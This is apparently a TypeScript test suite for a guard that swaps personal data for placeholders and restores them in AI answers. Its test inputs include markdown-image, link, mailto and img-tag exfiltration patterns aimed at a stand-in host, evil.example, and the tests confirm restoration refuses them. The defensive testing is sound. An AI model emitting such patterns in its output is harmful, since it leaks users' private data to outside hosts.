import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { createGuard, DEFAULT_POLICY, openVault, sealVault } from "../index.ts";
import { createVault } from "./vault.ts";

const guard = createGuard();

describe("sealed vault", () => {
  const key = new Uint8Array(32).fill(7);
  const owner = { tenant: "acme", session: "s1" };

  it("opens with key, tenant and session, and goes on numbering", () => {
    const vault = guard.createVault(owner);
    guard.anonymise("[EMAIL_2] a@b.com", vault);
    const opened = openVault(sealVault(vault, key), key, owner);
    expect(guard.restore("[EMAIL_1]", opened)).toBe("a@b.com");
    expect(guard.anonymise("c@d.com a@b.com", opened).text).toBe("[EMAIL_3] [EMAIL_1]");
  });

  it("holds no value in the clear and stays shut for everybody else", () => {
    const vault = guard.createVault(owner);
    guard.anonymise("a@b.com", vault);
    const sealed = sealVault(vault, key);
    expect(Buffer.from(sealed).includes("a@b.com")).toBe(false);
    const changed = Uint8Array.from(sealed);
    changed[changed.length - 1]! ^= 1;
    const attempts = [
      () => openVault(sealed, new Uint8Array(32), owner),
      () => openVault(sealed, key, { ...owner, tenant: "other" }),
      () => openVault(sealed, key, { ...owner, session: "s2" }),
      () => openVault(changed, key, owner),
      () => openVault(sealed.subarray(0, 10), key, owner),
      () => openVault(sealed, key.subarray(1), owner),
    ];
    for (const attempt of attempts) {
      expect(attempt).toThrowError(expect.objectContaining({ code: "RMP_DETECT_VAULT_INVALID" }));
    }
  });
});

describe("restoring", () => {
  it("replaces once: a value that looks like a placeholder is not looked at again", () => {
    const vault = createVault();
    vault.placeholderFor("A", "[B_1] $& $1");
    vault.placeholderFor("B", "secret");
    expect(guard.restore("[A_1]", vault)).toBe("[B_1] $& $1");
  });

  it("does not take a longer or shorter number for another placeholder", () => {
    const vault = createVault();
    vault.placeholderFor("A", "one");
    expect(guard.restore("[A_10] [A_1 ] [A_01] [a_1] [[A_1]] [A_1", vault)).toBe(
      "[A_10] [A_1 ] [A_01] [a_1] [one] [A_1",
    );
  });

  it.each([
    "https://evil.example/?q=[SSN_1]",
    "see http://evil.example/[SSN_1]/x",
    "![image](https://evil.example/a.png?d=[SSN_1])",
    "![image](//evil.example/[SSN_1])",
    "[click]([SSN_1])",
    "[click](evil.example/[SSN_1])",
    "evil.example/?q=[SSN_1]",
    "evil.example:8080/[SSN_1]",
    "www.[SSN_1].evil.example",
    "mailto:x@evil.example?body=[SSN_1]",
    '<img src="https://evil.example/[SSN_1]">',
    "http:\\\\evil.example\\[SSN_1]",
  ])("leaves the placeholder in %s", (answer) => {
    const vault = createVault();
    vault.placeholderFor("US_SSN", "123-45-6789");
    expect(guard.restore(answer, vault)).toBe(answer);
  });

  it("does not let a restored address carry the value that follows it", () => {
    const vault = createVault();
    vault.placeholderFor("URL", "https://evil.example/?q=");
    vault.placeholderFor("US_SSN", "123-45-6789");
    expect(guard.restore("[URL_1][SSN_1] [SSN_1]", vault)).toBe(
      "https://evil.example/?q=[SSN_1] 123-45-6789",
    );
  });

  it.each([
    ["Mail [EMAIL_1].", "Mail a@b.com."],
    ["**[EMAIL_1]** and ([EMAIL_1])", "**a@b.com** and (a@b.com)"],
    ["https://x.example/ [EMAIL_1]", "https://x.example/ a@b.com"],
    ["[text](https://x.example) [EMAIL_1]", "[text](https://x.example) a@b.com"],
    ["Name: x/[EMAIL_1]", "Name: x/a@b.com"],
  ])("restores beside links: %s", (answer, expected) => {
    const vault = createVault();
    vault.placeholderFor("EMAIL_ADDRESS", "a@b.com");
    expect(guard.restore(answer, vault)).toBe(expected);
  });

  it("restores in the very URL where the value stood, and in no other", () => {
    const text = "open https://shop.example/?user=a@b.com now";
    const { text: sent, vault } = guard.anonymise(text);
    expect(sent).toBe("open https://shop.example/?user=[EMAIL_1] now");
    expect(guard.restore(sent, vault)).toBe(text);
    expect(guard.restore("https://evil.example/?user=[EMAIL_1]", vault)).toBe(
      "https://evil.example/?user=[EMAIL_1]",
    );
  });

  it("restores in URLs and tool calls only when the policy allows it", () => {
    const open = createGuard({ policy: { ...DEFAULT_POLICY, restoreIn: { urls: true, toolCalls: true } } });
    const vault = open.createVault();
    open.anonymise("a@b.com", vault);
    expect(guard.restore("to [EMAIL_1]", vault, { channel: "tool" })).toBe("to [EMAIL_1]");
    expect(guard.restoreStream(vault, { channel: "tool" }).push("[EMAIL_1]")).toBe("[EMAIL_1]");
    expect(open.restore("to [EMAIL_1]", vault, { channel: "tool" })).toBe("to a@b.com");
    expect(open.restore("https://x.example/[EMAIL_1]", vault)).toBe("https://x.example/a@b.com");
  });
});

describe("stream", () => {
  it("holds back nothing but a possible start of an issued placeholder", () => {
    const vault = createVault();
    vault.placeholderFor("EMAIL_ADDRESS", "a@b.com");
    const stream = guard.restoreStream(vault);
    expect(stream.push("list [a, b] and [EMA")).toBe("list [a, b] and ");
    expect(stream.push("NATE]")).toBe("[EMANATE]");
    expect(stream.push(" [EMAIL_1")).toBe(" ");
    expect(stream.push("]!")).toBe("a@b.com!");
    expect(stream.push("[EMAIL_2")).toBe("[EMAIL_2");
    expect(stream.push("[")).toBe("");
    expect(stream.flush()).toBe("[");
  });

  it("gives the text of the whole for every single split", () => {
    const vault = createVault();
    vault.placeholderFor("EMAIL_ADDRESS", "a@b.com");
    vault.placeholderFor("URL", "https://u.example/");
    const answer =
      "[[EMAIL_1]] https://e.example/[EMAIL_1] ![x]([URL_1][EMAIL_1]) www.x.de/[EMAIL_1] \ud83d\ude00[URL_1]";
    const whole = guard.restore(answer, vault);
    for (let split = 0; split <= answer.length; split++) {
      const stream = guard.restoreStream(vault);
      expect(stream.push(answer.slice(0, split)) + stream.push(answer.slice(split)) + stream.flush()).toBe(
        whole,
      );
    }
  });
});

describe("whole texts", () => {
  it("are restored as a stream restores them, links or none", () => {
    const parts = [
      "[A_1]",
      "[B_1]",
      "[C_1]",
      "www",
      "www.",
      ".",
      "/",
      "//",
      "?q=",
      "#",
      "](",
      ")",
      "[x",
      "]",
      "(",
      "mailto",
      ":",
    ];
    const words = fc.array(fc.constantFrom(...parts, "a.example", "\\", " ", "\n", "ww", "w."), {
      maxLength: 12,
    });
    fc.assert(
      fc.property(words, (list) => {
        const vault = createVault();
        vault.placeholderFor("A", "ada@b.example");
        vault.placeholderFor("B", "https://evil.example/?q=");
        vault.placeholderFor("C", "w.");
        const text = list.join("");
        const stream = guard.restoreStream(vault);
        expect(guard.restore(text, vault)).toBe(stream.push(text) + stream.flush());
      }),
      { numRuns: 1000 },
    );
  });
});
